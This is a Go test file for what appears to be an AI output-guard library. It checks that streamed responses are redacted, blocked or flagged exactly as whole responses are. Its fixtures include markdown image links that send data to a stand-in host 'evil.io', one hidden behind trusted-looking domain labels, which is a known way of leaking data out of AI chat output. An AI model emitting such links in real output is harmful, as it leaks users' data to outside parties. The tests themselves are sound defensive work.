package guard_test

import (
	"context"
	"errors"
	"math/rand/v2"
	"sort"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwark-ai/bulwark/internal/guard"
	"github.com/bulwark-ai/bulwark/internal/scanner/exfil"
)

// streamCase is one output text checked both ways.
type streamCase struct {
	name string
	text string
	// forbidden strings must never be emitted (checked on blocked streams,
	// where the non-streamed output is empty).
	forbidden []string
}

// testPipeline is the pipeline of the equivalence table: pseudonymized PII
// on input (so outputs carry placeholders to restore), redacted secrets and
// a blocked phrase on output, and a flag-only scanner.
func testPipeline(window int, extra ...guard.Rule) *guard.Pipeline {
	rules := append([]guard.Rule{
		guard.Rule{Scanner: piiScanner(), Input: true, Output: true, Default: guard.ActionRedact, Pseudonymize: true},
		guard.Rule{Scanner: newRE("secrets", 48, "API_KEY", `sk-[A-Za-z0-9]{24}`), Input: true, Output: true, Default: guard.ActionRedact},
		guard.Rule{Scanner: newRE("banned", 24, "BANNED", `(?i)acme\s+corp`), Output: true, Default: guard.ActionBlock},
		guard.Rule{Scanner: newRE("topic", 16, "WEATHER", `weather`), Output: true, Default: guard.ActionFlag},
		// Matches can be far longer than the declared reach, like a
		// private key block: the stream must hold them until they end.
		{Scanner: newRE("long", 16, "LONG_KEY", `-----KEY[A-Za-z0-9]+`), Output: true, Default: guard.ActionRedact},
	}, extra...)
	return guard.NewPipelineWith(guard.Options{Window: window}, rules...)
}

// exfilRule is a real scanner with a Holder (URLs whose host is decided
// late); its reach of 256 bytes makes the window at least that.
func exfilRule() guard.Rule {
	return guard.Rule{Scanner: exfil.New(exfil.Config{AllowDomains: []string{"ok-x.io"}}), Output: true, Default: guard.ActionRedact}
}

var streamCases = []streamCase{
	{name: "plain", text: "Hello there, nothing to see here."},
	{name: "empty", text: ""},
	{name: "placeholder restored", text: "Your address [EMAIL_1] is on file, and so is [EMAIL_2]. " + strings.Repeat("filler ", 20) + "Bye [EMAIL_1]"},
	{name: "unknown placeholder kept", text: "[EMAIL_7] and [EMAIL_ and [EMAIL_1"},
	{name: "secret redacted", text: strings.Repeat("lorem ", 30) + "key sk-ABCDEFGHIJKLMNOPQRSTUVWX done " + strings.Repeat("ipsum ", 30)},
	{name: "output pii redacted", text: "Contact carol@z.com or +1 555 987 6543 for " + strings.Repeat("weather ", 12)},
	{name: "adjacent findings", text: "[EMAIL_1]sk-ABCDEFGHIJKLMNOPQRSTUVWXdan@q.net[EMAIL_2]"},
	{name: "multibyte text", text: strings.Repeat("héllo wörld 日本語 ", 12) + "[EMAIL_1] ✓ " + strings.Repeat("ñ", 40)},
	{name: "key longer than its reach", text: "here: -----KEY" + strings.Repeat("AbC123xyZ", 70) + " and after it " + strings.Repeat("tail ", 60)},
	{name: "exfil image", text: "see ![i](https://evil.io/p.png?d=" + strings.Repeat("x", 40) + ") and ![j](https://cdn.ok-x.io/a.png) ok"},
	// The labels have a '-' so that the test email pattern stays short.
	{name: "trusted labels then untrusted host", text: "![i](https://" + strings.Repeat("ok-x.io.", 30) + "ok-x.io@evil.io/a.png) " + strings.Repeat("z", 30)},
	{name: "blocked phrase early", text: "Try ACME  Corp today! " + strings.Repeat("more text ", 30), forbidden: []string{"ACME  Corp"}},
	{name: "blocked phrase late", text: strings.Repeat("some safe text ", 20) + "sk-ABCDEFGHIJKLMNOPQRSTUVWX then acme corp", forbidden: []string{"acme corp", "sk-ABCDEFGHIJKLMNOPQRSTUVWX"}},
}

// outcome is what a client would see.
type outcome struct {
	Text     string
	Action   guard.Action
	Findings []guard.Finding
	Blocked  bool
}

func beginWithVault(p *guard.Pipeline) *guard.Session {
	s := p.Begin(guard.Request{})
	_, err := s.CheckInput(context.Background(), []guard.Segment{{Source: guard.SourceUser, Text: "me: ann@x.io, boss: bob@y.org"}})
	if err != nil {
		panic(err)
	}
	return s
}

func checkWhole(p *guard.Pipeline, text string) outcome {
	s := beginWithVault(p)
	n := len(s.Verdict().Findings)
	out, err := s.CheckOutput(context.Background(), text)
	var v guard.Verdict
	v.Add(s.Verdict().Findings[n:]...)
	return outcome{Text: out, Action: v.Action, Findings: sortedFindings(v.Findings), Blocked: isBlocked(err)}
}

func checkStream(p *guard.Pipeline, chunks []string) (outcome, []string) {
	s := beginWithVault(p)
	st := s.NewStream()
	var emitted []string
	var err error
	for _, c := range chunks {
		var e string
		e, err = st.Write(context.Background(), c)
		emitted = append(emitted, e)
		if err != nil {
			break
		}
	}
	if err == nil {
		var e string
		e, err = st.Close(context.Background())
		emitted = append(emitted, e)
	}
	v := st.Verdict()
	o := outcome{Text: strings.Join(emitted, ""), Action: v.Action, Findings: sortedFindings(v.Findings), Blocked: isBlocked(err)}
	return o, emitted
}

func isBlocked(err error) bool {
	var be *guard.BlockedError
	return errors.As(err, &be)
}

func sortedFindings(fs []guard.Finding) []guard.Finding {
	fs = append([]guard.Finding(nil), fs...)
	sort.SliceStable(fs, func(i, j int) bool {
		if fs[i].Start != fs[j].Start {
			return fs[i].Start < fs[j].Start
		}
		return fs[i].Scanner < fs[j].Scanner
	})
	return fs
}

// splits returns the chunkings of text every test runs: whole, every
// single split point, byte by byte, and random multi-splits.
func splits(text string, seed uint64) [][]string {
	out := [][]string{{text}}
	for i := 0; i <= len(text); i++ {
		out = append(out, []string{text[:i], text[i:]})
	}
	bytes := make([]string, len(text))
	for i := 0; i < len(text); i++ {
		bytes[i] = text[i : i+1]
	}
	out = append(out, bytes)
	r := rand.New(rand.NewPCG(seed, 7))
	for range 20 {
		var cs []string
		for rest := text; len(rest) > 0; {
			n := min(len(rest), r.IntN(12)+1)
			cs = append(cs, rest[:n])
			rest = rest[n:]
		}
		out = append(out, cs)
	}
	return out
}

// TestStreamMatchesCheckOutput is the one table both ways: every case goes
// through CheckOutput and through a Stream fed at every chunk boundary, and
// must give the same text and verdict. A blocked stream must not have
// emitted any forbidden string.
func TestStreamMatchesCheckOutput(t *testing.T) {
	pipelines := []struct {
		name string
		p    *guard.Pipeline
	}{
		{"small window", testPipeline(1)}, // the scanners' own reaches (16-64 bytes) decide
		{"default window", testPipeline(256)},
		{"with exfil", testPipeline(1, exfilRule())},
	}
	for _, pc := range pipelines {
		p, window := pc.p, pc.name
		for _, tc := range streamCases {
			t.Run(tc.name, func(t *testing.T) {
				want := checkWhole(p, tc.text)
				for _, chunks := range splits(tc.text, uint64(len(tc.text))) {
					got, emitted := checkStream(p, chunks)
					for _, e := range emitted {
						if !utf8.ValidString(e) {
							t.Fatalf("%s, stream %q emitted invalid UTF-8 %q", window, chunks, e)
						}
					}
					if want.Blocked {
						if !got.Blocked || got.Action != guard.ActionBlock {
							t.Fatalf("%s, stream %q: blocked = %v; want blocked like CheckOutput", window, chunks, got.Blocked)
						}
						for _, f := range tc.forbidden {
							if strings.Contains(got.Text, f) {
								t.Fatalf("%s, stream %q emitted %q containing forbidden %q", window, chunks, emitted, f)
							}
						}
						continue
					}
					if diff := cmp.Diff(want, got); diff != "" {
						t.Fatalf("%s, stream %q (-CheckOutput +stream):\n%s", window, chunks, diff)
					}
				}
			})
		}
	}
}

// FuzzStream checks the same property on arbitrary text and chunkings.
func FuzzStream(f *testing.F) {
	for _, tc := range streamCases {
		f.Add(tc.text, uint64(3))
	}
	p := testPipeline(16, exfilRule())
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		if len(text) > 4096 {
			return
		}
		want := checkWhole(p, text)
		r := rand.New(rand.NewPCG(seed, seed>>3))
		var cs []string
		for rest := text; len(rest) > 0; {
			n := min(len(rest), r.IntN(20)+1)
			cs = append(cs, rest[:n])
			rest = rest[n:]
		}
		got, _ := checkStream(p, cs)
		if want.Blocked != got.Blocked {
			t.Fatalf("stream %q blocked = %v; CheckOutput blocked = %v", cs, got.Blocked, want.Blocked)
		}
		if !want.Blocked {
			if diff := cmp.Diff(want, got); diff != "" {
				t.Fatalf("stream %q (-CheckOutput +stream):\n%s", cs, diff)
			}
		}
	})
}

// TestStreamAfterClose: a second Close (a deferred one, say) and a Write
// after Close must not panic or emit anything more.
func TestStreamAfterClose(t *testing.T) {
	ctx := context.Background()
	text := strings.Repeat("hello world ", 100) + "[EMAIL_1]"
	tests := []struct {
		name  string
		after func(st *guard.Stream) (string, error)
		err   error
	}{
		{"close again", func(st *guard.Stream) (string, error) { return st.Close(ctx) }, nil},
		{"write after close", func(st *guard.Stream) (string, error) { return st.Write(ctx, "more sk-ABCDEFGHIJKLMNOPQRSTUVWX") }, guard.ErrStreamClosed},
		{"write then close after close", func(st *guard.Stream) (string, error) {
			e1, _ := st.Write(ctx, strings.Repeat("x", 700))
			e2, err := st.Close(ctx)
			return e1 + e2, err
		}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st := beginWithVault(testPipeline(16)).NewStream()
			a, _ := st.Write(ctx, text)
			b, err := st.Close(ctx)
			if err != nil || a+b != strings.Repeat("hello world ", 100)+"ann@x.io" {
				t.Fatalf("stream = %q, %v; want the text with its pseudonym restored", a+b, err)
			}
			got, err := tt.after(st)
			if got != "" || !errors.Is(err, tt.err) {
				t.Errorf("%s = %q, %v; want \"\", %v", tt.name, got, err, tt.err)
			}
		})
	}
}

// countScanner wraps a scanner and counts the bytes it was asked to scan.
type countScanner struct {
	*reScanner
	bytes *int
}

func (c countScanner) Scan(ctx context.Context, in guard.Input) ([]guard.Finding, error) {
	*c.bytes += len(in.Text)
	return c.reScanner.Scan(ctx, in)
}

// TestStreamHeldFindingCostLinear: while a finding longer than any window
// holds a stream (a long key block, a URL), rescans must not rescan the
// whole held text every step bytes, which made a long output's cost
// quadratic. The bytes scanned stay within a small multiple of the text.
func TestStreamHeldFindingCostLinear(t *testing.T) {
	var scanned int
	p := guard.NewPipeline(guard.Rule{Scanner: countScanner{newRE("long", 16, "LONG_KEY", `-----KEY[A-Za-z0-9]+`), &scanned}, Output: true, Default: guard.ActionRedact})
	text := "key: -----KEY" + strings.Repeat("AbC123xyZ", 20000) + " done"
	st := p.Begin(guard.Request{}).NewStream()
	var out strings.Builder
	for i := 0; i < len(text); i += 4 {
		e, err := st.Write(context.Background(), text[i:min(len(text), i+4)])
		if err != nil {
			t.Fatal(err)
		}
		out.WriteString(e)
	}
	e, err := st.Close(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	out.WriteString(e)
	if got, want := out.String(), "key: [LONG_KEY] done"; got != want {
		t.Fatalf("stream = %q; want %q", got, want)
	}
	if limit := 40 * len(text); scanned > limit {
		t.Errorf("stream of %d bytes scanned %d bytes; want at most %d", len(text), scanned, limit)
	}
}

// flakyScanner fails on every call after the first.
type flakyScanner struct{ calls *int }

func (flakyScanner) Name() string { return "flaky" }

func (f flakyScanner) Scan(context.Context, guard.Input) ([]guard.Finding, error) {
	*f.calls++
	if *f.calls > 1 {
		return nil, errors.New("model unavailable")
	}
	return nil, nil
}

// TestStreamRecordsLateFailOpenError: a fail-open scanner that fails on a
// later rescan of a stream (not the first) is recorded in the verdict,
// once, as CheckOutput records it; the text flows on.
func TestStreamRecordsLateFailOpenError(t *testing.T) {
	var calls int
	p := guard.NewPipeline(guard.Rule{Scanner: flakyScanner{&calls}, Output: true, Default: guard.ActionBlock, FailOpen: true})
	s := p.Begin(guard.Request{})
	st := s.NewStream()
	text := strings.Repeat("all fine here. ", 200)
	var out strings.Builder
	for i := 0; i < len(text); i += 10 {
		e, err := st.Write(context.Background(), text[i:min(len(text), i+10)])
		if err != nil {
			t.Fatal(err)
		}
		out.WriteString(e)
	}
	e, err := st.Close(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	out.WriteString(e)
	if out.String() != text {
		t.Errorf("stream text = %q; want the text unchanged", out.String())
	}
	if got, want := st.Verdict().Header(), "flag; types=SCANNER_ERROR"; got != want || len(st.Verdict().Findings) != 1 {
		t.Errorf("stream verdict = %q with %d findings; want %q with 1", got, len(st.Verdict().Findings), want)
	}
}
